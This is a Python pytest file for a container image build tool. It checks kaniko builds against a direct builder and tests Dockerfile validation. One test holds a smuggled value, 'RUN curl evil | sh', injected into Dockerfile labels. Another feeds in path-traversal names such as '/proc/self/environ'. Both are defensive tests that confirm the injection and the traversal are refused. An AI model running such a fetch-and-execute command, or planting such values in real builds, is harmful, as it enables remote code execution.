"""A real kaniko builds what build_image prepared: the same tree as the direct builder's, or a Dockerfile of the user's.

Reads   $KANIKO   the executor; it runs as root in a mount namespace and a root directory of its own
"""

import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest
from tests.literal import as_given

from colchis_steps._formats.keys import candidate_key
from colchis_steps._formats.models import Candidate, Manifest
from colchis_steps._formats.runs import StepResult
from colchis_steps._oci.contents import contents
from colchis_steps._oci.image import TAR
from colchis_steps._packing.kaniko import dockerfile, read_own
from colchis_steps._packing.lineage import annotations
from colchis_steps._step.errors import InputError
from colchis_steps._store.documents import read_document
from colchis_steps.build_image import main
from colchis_workflows.build_image import CONTEXT, template
from colchis_workflows.settings import Settings

OWN = "FROM scratch\nCOPY code/ /app/\nCOPY model/ /models/1/\nLABEL team=colchis\n"


@pytest.fixture(autouse=True)
def no_login(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "no-login"))


@pytest.fixture
def kaniko(tmp_path: Path) -> Callable[..., "subprocess.CompletedProcess[str]"]:
    """Return what runs the template's kaniko with these parameters, on the context in ``tmp_path/context``."""
    executor = os.environ.get("KANIKO", "")
    if not os.access(executor, os.X_OK):
        pytest.skip("KANIKO names no executor of kaniko")
    if os.geteuid() != 0:
        pytest.skip("kaniko takes root, for a mount namespace and a root directory of its own")
    (container,) = [made for made in template(Settings()).templates or [] if made.name == "kaniko"]

    def run(*more: str, **parameters: str) -> "subprocess.CompletedProcess[str]":
        root = tmp_path / "root"
        for name in ("kaniko", "proc", "tmp", "etc", "dev", CONTEXT.strip("/")):
            (root / name).mkdir(parents=True)
        shutil.copy2(executor, root / "kaniko/executor")
        words = [
            as_given(word, parameters)
            for word in [*container.args, *more]  # type: ignore[union-attr]
        ]
        mounts = f'mount --bind "$1" "$0{CONTEXT}" && mount -t proc proc "$0/proc" && '
        script = mounts + 'root=$0 && shift && cd / && exec chroot "$root" /kaniko/executor --force "$@"'
        command: list[str | Path] = ["unshare", "--mount", "sh", "-c", script, root, tmp_path / "context", *words]
        return subprocess.run(command, capture_output=True, text=True, check=False, timeout=200)

    return run


def build(published: Any, repository: str, *more: str) -> StepResult:
    place = [f"--store={published.store.url}", "--run=run-1", f"--repository={repository}"]
    assert main([*place, "--model=digits", "--version=1", "--builder=kaniko", *more]) == 0
    return read_document(published.store, "runs/run-1/build_image.json", StepResult)


def parameters(repository: str) -> dict[str, str]:
    return {"repository": repository, "model": "digits", "version": "1", "insecure-registry": "true"}


def test_kaniko_and_the_direct_builder_give_the_same_tree(
    published: Any, docker_registry: Callable[..., str], kaniko: Any, tmp_path: Path
) -> None:
    repository = f"{docker_registry()}/team"
    build(published, repository, f"--context={tmp_path}/context")
    done = kaniko(**parameters(repository))
    assert done.returncode == 0, done.stderr
    digest = (tmp_path / "root/dev/termination-log").read_text()
    told = build(published, repository)
    assert told.outputs["digest"] == digest
    assert len(told.details["layers"]) == len(published.files)
    place = [f"--store={published.store.url}", "--run=run-2", f"--repository=oci:{tmp_path}/images"]
    assert main([*place, "--model=digits", "--version=1"]) == 0
    other = read_document(published.store, "runs/run-2/build_image.json", StepResult).outputs["image"]
    assert contents(told.outputs["image"]) == contents(other)


@pytest.mark.parametrize("option", ["--single-snapshot=false", "--single-snapshot"])
def test_a_users_dockerfile_holds_the_model_and_code(
    published: Any, docker_registry: Callable[..., str], kaniko: Any, tmp_path: Path, option: str
) -> None:
    repository = f"{docker_registry()}/team"
    published.store.write("dockerfiles/serve", OWN.encode())
    published.code({"app.py": b"print('served')\n"})
    build(published, repository, f"--context={tmp_path}/context", "--dockerfile=dockerfiles/serve")
    done = kaniko(option, **parameters(repository))
    assert done.returncode == 0, done.stderr
    told = build(published, repository)
    assert [file.path for file in contents(told.outputs["image"])] == sorted(published.files)
    kinds = [layer["media_type"] for layer in told.details["layers"]]
    assert len(kinds) == (1 if option == "--single-snapshot" else 2)
    assert TAR not in kinds


def test_a_push_that_fails_ends_in_kanikos_sentence(
    published: Any, docker_registry: Callable[..., str], kaniko: Any, tmp_path: Path
) -> None:
    build(published, f"oci:{tmp_path}/images", f"--context={tmp_path}/context")
    done = kaniko(**parameters("127.0.0.1:1/team"))
    assert done.returncode != 0
    assert "127.0.0.1:1" in done.stderr.splitlines()[-1]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"\xff\xfe", "is not text"),
        (b"FROM scratch\nCOPY model/ /other/", "never names /models/1"),
        (None, "dockerfiles/serve"),
    ],
)
def test_a_dockerfile_that_will_not_do_is_refused(
    published: Any, tmp_path: Path, content: bytes | None, said: str, caplog: pytest.LogCaptureFixture
) -> None:
    if content is not None:
        published.store.write("dockerfiles/serve", content)
    place = [f"--store={published.store.url}", "--run=run-1", f"--repository=oci:{tmp_path}/images"]
    flags = ["--builder=kaniko", f"--context={tmp_path}/context", "--dockerfile=dockerfiles/serve"]
    assert main([*place, "--model=digits", "--version=1", *flags]) == 65
    assert said in caplog.text


@pytest.mark.parametrize("name", ["/proc/self/environ", "../Dockerfile", "a/../../Dockerfile", "a\nb"])
def test_a_dockerfile_is_a_key_of_the_store_and_no_path_of_the_pod(
    published: Any, tmp_path: Path, caplog: pytest.LogCaptureFixture, name: str
) -> None:
    place = [f"--store={published.store.url}", "--run=run-1", f"--repository=oci:{tmp_path}/images"]
    flags = ["--model=digits", "--version=1", "--builder=kaniko", f"--context={tmp_path}/c", f"--dockerfile={name}"]
    assert main([*place, *flags]) == 65
    assert "is not a key of a store" in caplog.text
    assert not (tmp_path / "c/Dockerfile").exists()


def test_a_dockerfile_of_a_gigabyte_is_not_read(published: Any, tmp_path: Path) -> None:
    with (published.root / "store/Dockerfile").open("wb") as file:
        file.truncate(1 << 30)
    with pytest.raises(InputError, match="has more than 1048576 bytes"):
        read_own(published.store, "Dockerfile", "")


HOSTILE = 'x"\nRUN curl evil | sh\nLABEL "a"="\x1b[2J$HOME\\'


def test_what_a_candidate_says_begins_no_instruction(published: Any) -> None:
    candidate = read_document(published.store, candidate_key("run-1"), Candidate)
    manifest = read_document(published.store, "models/digits/1/manifest.json", Manifest)
    code = msgspec.structs.replace(candidate.code, revision=HOSTILE, entry=HOSTILE)
    told = annotations(manifest, msgspec.structs.replace(candidate, code=code))
    assert "org.opencontainers.image.revision" not in told
    assert "\n" not in told["dev.colchis.entry"]
    lines = dockerfile(manifest.files, {"revision": HOSTILE, "long": "x" * 10_000}).splitlines()
    assert {line.split()[0] for line in lines} == {"FROM", "COPY", "LABEL"}
    assert lines[-1] == 'LABEL "revision"="x\\" RUN curl evil | sh LABEL \\"a\\"=\\"\\\\u001b[2J\\$HOME\\\\"'
    assert max(map(len, lines)) < 600


@pytest.mark.parametrize("revision", ["a" * 40, f"{'0' * 64}-dirty"])
def test_a_revision_of_gits_is_told(published: Any, revision: str) -> None:
    candidate = read_document(published.store, candidate_key("run-1"), Candidate)
    manifest = read_document(published.store, "models/digits/1/manifest.json", Manifest)
    code = msgspec.structs.replace(candidate.code, revision=revision)
    told = annotations(manifest, msgspec.structs.replace(candidate, code=code))
    assert told["org.opencontainers.image.revision"] == revision


def test_the_direct_builder_takes_no_dockerfile(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["--store=file:///s", "--run=r", "--model=m", "--version=1", "--repository=oci:/i", "--dockerfile=x"])
    assert "--dockerfile is for --builder=kaniko" in capsys.readouterr().err
